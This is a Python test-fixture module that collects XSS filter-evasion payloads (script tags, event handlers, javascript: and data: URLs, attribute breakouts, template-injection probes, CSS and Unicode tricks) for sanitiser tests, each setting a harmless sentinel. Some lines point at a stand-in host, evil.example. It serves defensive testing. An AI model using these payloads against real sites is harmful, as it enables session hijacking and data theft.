"""An XSS corpus, drawn from the OWASP XSS Filter Evasion Cheat Sheet and PortSwigger's XSS cheat
sheet, for the proofs in test_xss.py and test_xss_in_browser.py.

Every payload that could run script sets the sentinel `window.__xss` (or calls `alert`, which a
browser shows as a dialog) if it ever runs, so a browser can tell. A few are inert HTML
(`class="xss-injected"`): they prove that no markup at all gets through, not only script. Each
payload has a short id, which the tests use as its name in a failure.
"""

from dataclasses import dataclass

SENTINEL = "window.__xss=1"
INJECTED_CLASS = "xss-injected"  # inert markup carries it: an element with it on a page is injection


@dataclass(frozen=True)
class Payload:
    id: str
    text: str
    kind: str

    def __str__(self):
        return self.id


def _payloads(kind, *pairs):
    return [Payload(id, text, kind) for id, text in pairs]


S = SENTINEL

SCRIPT_TAGS = _payloads(
    "script",
    ("script", f"<script>{S}</script>"),
    ("script-mixed-case", f"<ScRiPt>{S}</sCrIpT>"),
    ("script-upper", f"<SCRIPT>{S}</SCRIPT>"),
    ("script-src-data", f"<script src=data:text/javascript,{S}></script>"),
    ("script-slash-attr", f"<script/xss>{S}</script>"),
    ("script-newlines", f"<script\n>{S}</script\n>"),
    ("script-nested", f"<scr<script>ipt>{S}</scr</script>ipt>"),
    ("script-double-open", f"<<script>{S}//<</script>"),
    ("script-unclosed", f"<script>{S}//"),
    ("script-svg-href", f"<svg><script href=data:,{S} /></svg>"),
)

EVENT_HANDLERS = _payloads(
    "event handler",
    ("img-onerror", f"<img src=x onerror={S}>"),
    ("img-onerror-quoted", f'<img src="x" onerror="{S}">'),
    ("img-slashes", f"<img/src=x/onerror={S}>"),
    ("img-decimal-entities", "<img src=x onerror=&#119;&#105;&#110;dow.__xss=1>"),
    ("img-hex-entities", "<img src=x onerror=&#x77;&#x69;&#x6e;dow.__xss=1>"),
    ("img-alert", "<img src=x:alert(alt) onerror=eval(src) alt=0>"),
    ("svg-onload", f"<svg onload={S}>"),
    ("svg-slash-onload", f"<svg/onload={S}>"),
    ("svg-animate-onbegin", f"<svg><animate onbegin={S} attributeName=x dur=1s>"),
    ("body-onload", f"<body onload={S}>"),
    ("body-onpageshow", f"<body onpageshow={S}>"),
    ("iframe-onload", f"<iframe onload={S}></iframe>"),
    ("details-ontoggle", f"<details open ontoggle={S}>"),
    ("video-source-onerror", f"<video><source onerror={S}></video>"),
    ("audio-onerror", f"<audio src=x onerror={S}>"),
    ("input-autofocus", f"<input autofocus onfocus={S}>"),
    ("marquee-onstart", f"<marquee onstart={S}>x</marquee>"),
    ("custom-tag-onfocus", f"<xss id=x tabindex=1 autofocus onfocus={S}></xss>"),
    ("a-onfocusin", f"<a id=x tabindex=1 autofocus onfocusin={S}>x</a>"),
    ("contenteditable-onblur", f"<x contenteditable autofocus onblur={S}>x</x>"),
    (
        "animation-start",
        f"<style>@keyframes x{{}}</style><xss style=animation-name:x onanimationstart={S}></xss>",
    ),
    ("isindex", f"<isindex type=image src=1 onerror={S}>"),
    ("mxss-math-style", f"<math><mtext><table><mglyph><style><img src=x onerror={S}>"),
    ("mxss-noscript", f'<noscript><p title="</noscript><img src=x onerror={S}>">'),
)

URLS = _payloads(
    "url",
    ("js-url", f"javascript:{S}"),
    ("js-url-mixed-case", f"JaVaScRiPt:{S}"),
    ("js-url-spaces", f" \t javascript:{S}"),
    ("js-url-tab-inside", f"java\tscript:{S}"),
    ("js-url-entities", f"&#106;&#97;vascript:{S}"),
    ("js-url-named-colon", f"javascript&colon;{S}"),
    ("a-js-href", f'<a href="javascript:{S}">click</a>'),
    ("a-js-entity-href", f'<a href="&#1;javascript:{S}">click</a>'),
    ("img-js-tab", f'<img src="jav&#x09;ascript:{S}">'),
    ("iframe-js-src", "<iframe src=javascript:top.__xss=1></iframe>"),
    ("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;parent.__xss=1&lt;/script&gt;"></iframe>'),
    ("object-js-data", f'<object data="javascript:{S}"></object>'),
    ("embed-data-html", '<embed src="data:text/html,<script>parent.__xss=1</script>">'),
    ("form-js-action", f'<form action="javascript:{S}"><button>go</button></form>'),
    ("button-formaction", f"<form><button formaction=javascript:{S}>go</button></form>"),
    ("svg-xlink-href", f'<svg><a xlink:href="javascript:{S}"><text x=20 y=20>x</text></a></svg>'),
    ("svg-set-href", f"<svg><a><set attributeName=href to=javascript:{S} /><text y=20>x</text></a></svg>"),
    ("table-background", f'<table background="javascript:{S}"><td>x</td></table>'),
    ("meta-refresh", f'<meta http-equiv="refresh" content="0;url=javascript:{S}">'),
    ("base-href", f'<base href="javascript:{S}//">'),
    ("data-url", "data:text/html,<script>parent.__xss=1</script>"),
    ("data-url-base64", "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg=="),
    ("vbscript-url", "vbscript:msgbox(1)"),  # inert in Chromium; kept for the parser's sake
    ("https-url-breakout", f'https://example.org/"><script>{S}</script>'),
)

ATTRIBUTE_BREAKOUTS = _payloads(
    "breakout",
    ("double-quote", f'"><img src=x onerror={S}>'),
    ("single-quote", f"'><img src=x onerror={S}>"),
    ("double-quote-handler", f'" onmouseover="{S}" autofocus onfocus="{S}" x="'),
    ("single-quote-handler", f"' onfocus='{S}' autofocus x='"),
    ("backtick-handler", f"` onmouseover={S} x=`"),
    ("self-closing", f'"/><svg onload={S}>'),
    ("textarea-close", f"</textarea><script>{S}</script>"),
    ("title-close", f"</title><script>{S}</script>"),
    ("select-close", f"</option></select><img src=x onerror={S}>"),
    ("comment-close", f"--><script>{S}</script>"),
    ("cdata-close", f"]]><script>{S}</script>"),
    ("pre-close", f"</pre><script>{S}</script>"),
    ("style-close", f"red;}}</style><script>{S}</script>"),
    ("json-string-close", f'"}};{S};//'),
    ("json-backslash", f'\\"}};{S};//'),
)

JSON_LD = _payloads(
    "json-ld",
    ("script-close", f"</script><script>{S}</script>"),
    ("script-close-odd", f"</ScRiPt ><script>{S}</script>"),
    ("comment-open", f"<!--<script>{S}</script>"),
    ("line-separator", f"before\u2028{S}\u2029after"),
    ("separators-and-close", f"\u2028</script>\u2029<script>{S}</script>"),
    ("escaped-close", "\\u003c/script\\u003e\\u003cscript\\u003ewindow.__xss=1\\u003c/script\\u003e"),
)

TEMPLATES = _payloads(
    "template",
    ("django-variable", "{{ request.user.password }} {{ settings.SECRET_KEY }}"),
    ("django-tag", "{% debug %}{% load static %}{% csrf_token %}"),
    ("jinja-arithmetic", "{{ 7*7 }} ${7*7} #{7*7} <%= 7*7 %>"),
    ("jinja-mro", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("angular-constructor", f"{{{{constructor.constructor('{S}')()}}}}"),
)

MARKDOWN = _payloads(
    "markdown",
    ("md-js-link", f"[click me](javascript:{S})"),
    ("md-angle-js-link", f"[click me](<javascript:{S}>)"),
    ("md-data-link", "[click](data:text/html,<script>parent.__xss=1</script>)"),
    ("md-image-breakout", f'![x](x" onerror="{S})'),
    ("md-autolink", f"<javascript:{S}>"),
    ("md-reference", f"[x][r]\n\n[r]: javascript:{S}"),
    ("md-raw-html", f'<a href="javascript:{S}">raw html</a>'),
)

CSS = _payloads(
    "css",
    ("css-expression", f'<div style="width: expression({S})">x</div>'),
    ("css-url-js", f'<div style="background-image: url(javascript:{S})">x</div>'),
    ("css-import", f"<style>@import 'javascript:{S}';</style>"),
    ("css-moz-binding", '<div style="-moz-binding:url(https://evil.example/xss.xml#x)">x</div>'),
    ("css-link", f'<link rel=stylesheet href="javascript:{S}">'),
)

INERT_HTML = _payloads(
    "html",
    ("inert-link", f'<a href="https://evil.example/" class="{INJECTED_CLASS}">official source</a>'),
    ("inert-heading", f"<h1 class={INJECTED_CLASS}>Retraction</h1>"),
    ("inert-form", f"<form action=https://evil.example/ class={INJECTED_CLASS}><input name=password></form>"),
    ("plaintext", f"<plaintext class={INJECTED_CLASS}>"),
    ("pre-escaped-entities", f"&lt;script&gt;{S}&lt;/script&gt; &amp;lt;b&amp;gt;"),
    ("url-encoded", f"%3Cscript%3E{S}%3C%2Fscript%3E"),
    ("fullwidth-brackets", f"\uff1cscript\uff1e{S}\uff1c/script\uff1e"),
)

CONTROL = _payloads(
    "control",
    ("bidi-override", f"\u202e<script>{S}</script>\u202c gnp.exe"),
    ("bidi-isolates", f"\u2066\u2067\u2068<img src=x onerror={S}>\u2069"),
    ("zero-width", f"<scr\u200bipt>{S}</scr\u200bipt>\ufeff"),
    ("c0-controls", f"\x01\x02\x07\x08\x0b\x0c\x1b[31m<script>{S}</script>\x7f"),
    ("null-byte", f"\x00<script>{S}</script>"),
    ("null-inside-tag", f"<scr\x00ipt>{S}</scr\x00ipt>"),
    ("very-long", "A" * 4000 + f"<script>{S}</script>"),
    ("many-tags", f"<b>{'<i>' * 300}<img src=x onerror={S}>"),
)

PAYLOADS = (
    SCRIPT_TAGS
    + EVENT_HANDLERS
    + URLS
    + ATTRIBUTE_BREAKOUTS
    + JSON_LD
    + TEMPLATES
    + MARKDOWN
    + CSS
    + INERT_HTML
    + CONTROL
)
BY_ID = {payload.id: payload for payload in PAYLOADS}
assert len(BY_ID) == len(PAYLOADS), "payload ids must be unique"
